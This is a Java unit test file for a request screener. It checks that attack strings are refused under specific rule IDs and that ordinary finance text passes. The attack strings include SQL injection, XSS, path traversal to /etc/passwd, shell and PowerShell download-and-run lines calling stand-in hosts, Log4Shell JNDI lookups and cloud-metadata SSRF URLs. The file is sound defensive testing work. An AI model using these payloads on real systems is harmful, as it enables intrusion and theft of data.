package io.qilin.security.screening;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Cases of our own, so that a plain checkout tests what the large corpora test. */
class OwnCasesTest {
  static final List<String> SEEDS = List.of(
      "' or '1'='1",
      "1 union select null, user() from dual",
      "<svg/onload=alert(1)>",
      "../../etc/passwd",
      "; cat /etc/passwd",
      "${jndi:ldap://x.y/a}",
      "{{7*7}}",
      "%0d%0aSet-Cookie: a=b",
      "{\"$ne\": null}",
      "rO0ABXNyABF",
      "a=%u0027%20or%201=1--",
      "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
      "[[[[[[[[[[",
      "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx",
      "\u0000\ud800\uffff",
      "&#x3c;script&#x3e;");

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '`',
      ignoreLeadingAndTrailingWhitespace = true,
      value = {
        "' or '1'='1 ~ QS-SQL-08",
        "x' or 1=1 -- ~ QS-SQL-08",
        "1 or 1=1-- ~ QS-SQL-09",
        "1 union select password from users ~ QS-SQL-01",
        "1/**/union/**/select/**/1,2 ~ QS-SQL-01",
        "1 UnIoN/*!50000SeLeCt*/ 1,2 ~ QS-SQL-01",
        "%2527%2520or%25201%253D1-- ~ QS-SQL-08",
        "＇ or 1=1 -- ~ QS-SQL-08",
        "1; drop table users ~ QS-SQL-07",
        "1 and sleep(5) ~ QS-SQL-03",
        "'; waitfor delay '0:0:5'-- ~ QS-SQL-03",
        "exec master..xp_cmdshell 'dir' ~ QS-SQL-04",
        "select table_name from information_schema.tables ~ QS-SQL-05",
        "<script>alert(1)</script> ~ QS-XSS-01",
        "<ScRiPt src=//x> ~ QS-XSS-01",
        "%3Csvg/onload=alert(1)%3E ~ QS-XSS-01",
        "&lt;img src=x onerror=alert(1)&gt; ~ QS-XSS-03",
        "\\u003cscript\\u003e ~ QS-XSS-01",
        "java\tscript:alert(1) ~ QS-XSS-04",
        "document . cookie ~ QS-XSS-08",
        "[]+(![]+[]) ~ QS-XSS-09",
        "../../../../etc/passwd ~ QS-PATH-01",
        "..%c0%af..%c0%afetc/passwd ~ QS-PATH-08",
        "/proc/self/environ ~ QS-PATH-03",
        "c:\\boot.ini ~ QS-PATH-04",
        "/.git/config ~ QS-PATH-05",
        "php://filter/x ~ QS-PATH-06",
        "; cat /etc/passwd ~ QS-SH-01",
        "|| wget http://x.y ~ QS-SH-01",
        "; c'a't /etc/pas\\swd ~ QS-SH-01",
        "$(whoami) ~ QS-SH-04",
        "() { :; }; echo x ~ QS-SH-05",
        ";{cat,/etc/passwd} ~ QS-SH-04",
        "cat$IFS/etc/hosts ~ QS-SH-02",
        "& ping -n 1 127.0.0.1 & ~ QS-SH-01",
        "cmd.exe /c dir ~ QS-WIN-02",
        "p^owershell -enc AAAA ~ QS-WIN-02",
        "IEX (New-Object Net.WebClient).DownloadString('http://x') ~ QS-WIN-03",
        "${jndi:ldap://x.y/a} ~ QS-JAVA-03",
        "${${lower:j}ndi:ldap://x} ~ QS-JAVA-03",
        "java.lang.Runtime ~ QS-JAVA-01",
        "#{T(java.lang.System)} ~ QS-JAVA-04",
        "class.module.classLoader.x ~ QS-JAVA-04",
        "rO0ABXNyABFq ~ QS-JAVA-06",
        "{{7*'7'}} ~ QS-APP-09",
        "__proto__ ~ QS-APP-04",
        "[$ne] ~ QS-APP-05",
        "http://169.254.169.254/latest/meta-data/ ~ QS-APP-02",
        "gopher://x:25/ ~ QS-APP-02",
        "_$$ND_FUNC$$_function(){} ~ QS-APP-01",
        "d2hpbGUodHJ1ZSk7Cg== ~ QS-APP-07",
        "%0d%0aSet-Cookie: a=b ~ QS-HTTP-02",
        "x%0aGET /a HTTP/1.1 ~ QS-HTTP-01",
        "*)(uid=*))(|(uid=* ~ QS-HTTP-04",
        "a%00b ~ QS-HTTP-06",
        "x%0a[INFO] logged in ~ QS-LOG-01",
        "%1b[31m ~ QS-LOG-02",
        "%252527 ~ QS-HTTP-09"
      })
  void whenATextIsAnAttack_thenItIsRefusedByTheRuleForIt(String text, String rule) {
    Verdict verdict = RequestScreener.DEFAULT.screenText("q", text);
    assertThat(verdict.findings()).extracting(Finding::rule).as(text).contains(rule);
    assertThat(verdict.refused()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Mean($close, 5) / Ref($close, 1) - 1",
        "if $close > Ref($close,1) and $volume > Mean($volume,5) then 1 else 0",
        "select the best 5 stocks from the list",
        "贵州茅台 600519.SH 涨停，封单 3 万手",
        "O'Neil's CAN SLIM and Graham's rules",
        "buy low; sell high",
        "P/E < 20 && P/B < 2 || ROE > 15%",
        "union members select a new leader",
        "drop in the table of prices",
        "data/2024/bars.csv",
        "https://example.com/news?id=5&page=2",
        "AT&T and S&P 500",
        "update: set a new high",
        "100% of 50%",
        "\"quoted\" text",
        "order by market value, top 10",
        "a -> b",
        "I <3 stocks",
        "R&D; M&A; T+1",
        "delete from 自选股",
        "{\"symbol\":\"600519.SH\",\"price\":1688.5,\"tags\":[\"a b\",\"c\"]}",
        "2024-01-02 09:30:00",
        "where volume > 5",
        "alert(价格)",
        "${close}",
        "time to buy; more to come",
        "exec summary",
        "x or y"
      })
  void whenATextIsHarmless_thenItPasses(String text) {
    Verdict verdict = RequestScreener.DEFAULT.screenText("q", text);
    assertThat(verdict.refused()).as("%s", verdict.findings()).isFalse();
  }

  @Test
  void whenTextsAreMutated_thenOnlyVerdictsComeBack() {
    Random random = new Random(42);
    List<RequestScreener> screeners = Arrays.stream(new int[] {1, 2, 3, 4})
        .mapToObj(level -> RequestScreener.builder().paranoia(level).build())
        .toList();
    for (int i = 0; i < 300; i++) {
      String text = mutated(random);
      RequestScreener screener = screeners.get(i % 4);
      assertThat(screener.screenText("f", text).outcome())
          .as(text)
          .isNotEqualTo(Verdict.Outcome.REFUSE_FAILURE);
      String type = List.of(
              "application/json",
              "text/xml",
              "multipart/form-data; boundary=b",
              "application/x-www-form-urlencoded",
              "")
          .get(i % 5);
      ScreenedRequest request = ScreenedRequest.builder("POST", "/a?" + text)
          .header("Content-Type", type)
          .header("Cookie", text)
          .body(text.getBytes(java.nio.charset.StandardCharsets.UTF_8))
          .build();
      assertThat(screener.screen(request).outcome())
          .as(text)
          .isNotEqualTo(Verdict.Outcome.REFUSE_FAILURE);
    }
  }

  private static String mutated(Random random) {
    StringBuilder text = new StringBuilder(SEEDS.get(random.nextInt(SEEDS.size())));
    for (int i = random.nextInt(8); i > 0; i--) {
      int at = text.isEmpty() ? 0 : random.nextInt(text.length());
      switch (random.nextInt(5)) {
        case 0 -> text.insert(at, SEEDS.get(random.nextInt(SEEDS.size())));
        case 1 -> text.delete(at, Math.min(text.length(), at + random.nextInt(5)));
        case 2 -> text.insert(at, (char) random.nextInt(0x10000));
        case 3 -> text.insert(at, "%\\&<>'\"`$({[/*".charAt(random.nextInt(14)));
        default -> text.insert(at, text.substring(at));
      }
    }
    return text.length() > 4000 ? text.substring(0, 4000) : text.toString();
  }
}
